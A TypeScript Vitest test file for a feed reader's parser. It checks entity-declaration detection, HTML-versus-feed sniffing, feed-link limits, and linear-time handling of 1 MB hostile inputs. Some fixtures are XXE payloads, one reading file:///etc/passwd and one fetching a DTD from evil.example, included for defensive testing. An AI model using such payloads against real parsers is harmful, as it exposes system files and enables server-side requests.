import { describe, expect, it } from 'vitest';
import { declaresEntities, looksLikeHtmlPage, readProlog } from '../../src/sources/document-prolog.js';
import { findFeedLinks } from '../../src/sources/find-feed-links.js';
import { parseDocument } from '../../src/sources/parse-document.js';

/** Generous bound for 1 MB of the worst input: a quadratic scan would take minutes. */
const withinMs = 2_000;

function timed<T>(run: () => T): { result: T; ms: number } {
  const started = performance.now();
  const result = run();
  return { result, ms: performance.now() - started };
}

const megabyte = 1024 * 1024;

describe('declaresEntities', () => {
  it.each([
    ['an internal entity', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]><r/>'],
    ['an external (XXE) entity', '<!DOCTYPE r [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]><r>&x;</r>'],
    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>'],
    ['a declaration in lower case', '<!doctype r [<!entity a "b">]><r/>'],
    ['a declaration after a comment holding a tag', '<!DOCTYPE r [<!-- <item> --><!ENTITY a "b">]><r/>'],
    ['a declaration after a quoted "]>"', '<!DOCTYPE r [<!ATTLIST r v CDATA "]>"><!ENTITY a "b">]><r/>'],
    ['a doctype after stray text', 'Notice: undefined index\n<!DOCTYPE r [<!ENTITY a "b">]><r/>'],
    ['a BOM, a declaration and comments before the doctype', '\uFEFF<?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE r [<!ENTITY a "b">]><r/>'],
  ])('finds %s', (_name, text) => {
    expect(declaresEntities(text)).toBe(true);
  });

  it.each([
    ['a feed without a doctype', '<?xml version="1.0"?><rss><channel><title>&lt;!ENTITY&gt;</title></channel></rss>'],
    ['an external DTD reference only', '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://x/rss-0.91.dtd"><rss/>'],
    ['a subset declaring only elements', '<!DOCTYPE r [<!ELEMENT r ANY>]><r/>'],
    ['<!ENTITY in CDATA after the root element', '<!DOCTYPE r><r><![CDATA[<!ENTITY a "b">]]></r>'],
    ['an HTML page', '<!DOCTYPE html><html><body>hi</body></html>'],
    ['an empty text', ''],
  ])('finds none in %s', (_name, text) => {
    expect(declaresEntities(text)).toBe(false);
  });

  it.each([
    ['<?', () => '<?'.repeat(megabyte / 2)],
    ['stray < before any element', () => '< '.repeat(megabyte / 2)],
    ['<!--', () => `<!DOCTYPE r [${'<!--'.repeat(megabyte / 4)}`],
    ['< inside a doctype', () => `<!DOCTYPE r [${'<'.repeat(megabyte)}`],
    ['quotes inside a doctype', () => `<!DOCTYPE r [${'"\''.repeat(megabyte / 2)}`],
    ['an unclosed doctype', () => `<!DOCTYPE ${'r'.repeat(megabyte)}`],
  ])('reads 1 MB of %s in linear time', (_name, build) => {
    const text = build();
    const { ms } = timed(() => declaresEntities(text));
    expect(ms).toBeLessThan(withinMs);
  });
});

describe('readProlog and looksLikeHtmlPage', () => {
  it('finds the doctype name and where the root element starts', () => {
    const text = '<?xml version="1.0"?>\n<!-- x -->\n<!DOCTYPE rss SYSTEM "a>b">\n<rss/>';
    expect(readProlog(text)).toEqual({ doctype: { name: 'rss', internalSubset: null }, rootStart: text.indexOf('<rss/>') });
  });

  it('tells a page by its doctype or its <html> root, not by words in it', () => {
    expect(looksLikeHtmlPage('<!DOCTYPE html><p>hi <rss version="2.0"></rss></p>')).toBe(true);
    expect(looksLikeHtmlPage('\n<!-- generated --><HTML lang="ar"><body><rss/></body></HTML>')).toBe(true);
    expect(looksLikeHtmlPage('<?xml version="1.0"?><rss version="2.0"><channel><title>html</title></channel></rss>')).toBe(false);
    expect(looksLikeHtmlPage('<feed xmlns="http://www.w3.org/2005/Atom"><title>&lt;html&gt;</title></feed>')).toBe(false);
  });

  it('reads 1 MB of processing instructions and comments in linear time', () => {
    for (const text of ['<?x '.repeat(megabyte / 4), '<!-- -->'.repeat(megabyte / 8), `<!--${'-'.repeat(megabyte)}`]) {
      const { ms } = timed(() => looksLikeHtmlPage(text));
      expect(ms).toBeLessThan(withinMs);
    }
  });
});

describe('linear time on hostile pages', () => {
  it('finds feed links in 1 MB of unclosed <link tags in linear time', () => {
    const text = '<link rel="alternate" '.repeat(megabyte / 22);
    const { result, ms } = timed(() => findFeedLinks(text, 'https://p.example/'));
    expect(result).toEqual([]);
    expect(ms).toBeLessThan(withinMs);
  });

  it('lists at most 20 feed links from a page announcing thousands', () => {
    const text = Array.from({ length: 5_000 }, (_, index) => `<link rel="alternate" type="application/rss+xml" href="/f${index}.xml">`).join('');
    const { result, ms } = timed(() => findFeedLinks(text, 'https://p.example/'));
    expect(result).toHaveLength(20);
    expect(result[0]).toBe('https://p.example/f0.xml');
    expect(ms).toBeLessThan(withinMs);
  });

  it.each([
    ['<meta', () => '<meta charset='.repeat(megabyte / 14)],
    ['<link', () => `<!DOCTYPE html>${'<link '.repeat(megabyte / 6)}`],
    ['<', () => '<'.repeat(megabyte)],
    ['&lt;', () => `<rss version="2.0"><channel><title>t</title><item><title>${'&lt;'.repeat(megabyte / 4)}</title></item></channel></rss>`],
  ])('parses 1 MB of %s as a document within the bound', (_name, build) => {
    const body = Buffer.from(build());
    const { ms } = timed(() => parseDocument({ body, contentType: 'text/html', url: 'https://p.example/' }));
    expect(ms).toBeLessThan(withinMs * 2);
  });
});
